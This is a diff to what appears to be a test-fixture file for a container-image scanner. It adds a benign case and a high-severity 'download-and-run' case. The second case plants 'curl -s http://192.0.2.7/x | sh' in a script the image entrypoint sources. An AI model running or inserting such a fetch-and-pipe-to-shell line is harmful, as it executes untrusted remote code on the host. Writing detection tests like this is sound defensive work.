@@ -121,6 +121,17 @@ else
 fi
 `;
 
+/** As tools keep apart what is only so on one distribution. */
+const DISTRIBUTED = (text: string) =>
+  image(
+    {
+      'usr/sbin/tool':
+        '#!/bin/sh\nfor file in /usr/share/tools/runtime.debian; do . "$file"; done\nexec nginx\n',
+      'usr/share/tools/runtime.debian': text,
+    },
+    { Entrypoint: ['tool'] },
+  );
+
 /** As firewalls are set up: hundreds of functions and options, and more commands than either. */
 const RULES = Array.from({ length: 300 }, (_, i) => i);
 const FIREWALL = [
@@ -224,6 +235,10 @@ export const REAL_TOOL_TWINS: readonly ImageCase[] = [
     ),
   },
   { name: 'a firewall that reads its rules and starts a server', spec: image(WALL, WALL_START) },
+  {
+    name: 'a tool that sources what is only so on its distribution',
+    spec: DISTRIBUTED('conffile=/etc/tool.conf\nbase() { awk "/^base/ { print \\$2 }" "$conffile"; }\n'),
+  },
   {
     name: 'a firewall of hundreds of functions, options and commands',
     spec: starts(`${FIREWALL}exec nginx`, { 'usr/sbin/iptables': program(), 'usr/sbin/modprobe': program() }),
@@ -391,6 +406,12 @@ export const REAL_TOOLS: readonly ImageCase[] = [
       },
       PARTS_START,
     ),
+  },
+  {
+    name: 'a tool that sources what fetches only on its distribution',
+    rule: 'start/download-and-run',
+    severity: 'high',
+    spec: DISTRIBUTED('curl -s http://192.0.2.7/x | sh\n'),
   },
   {
     name: 'a firewall of hundreds of functions, options and commands, and what it runs at its end',
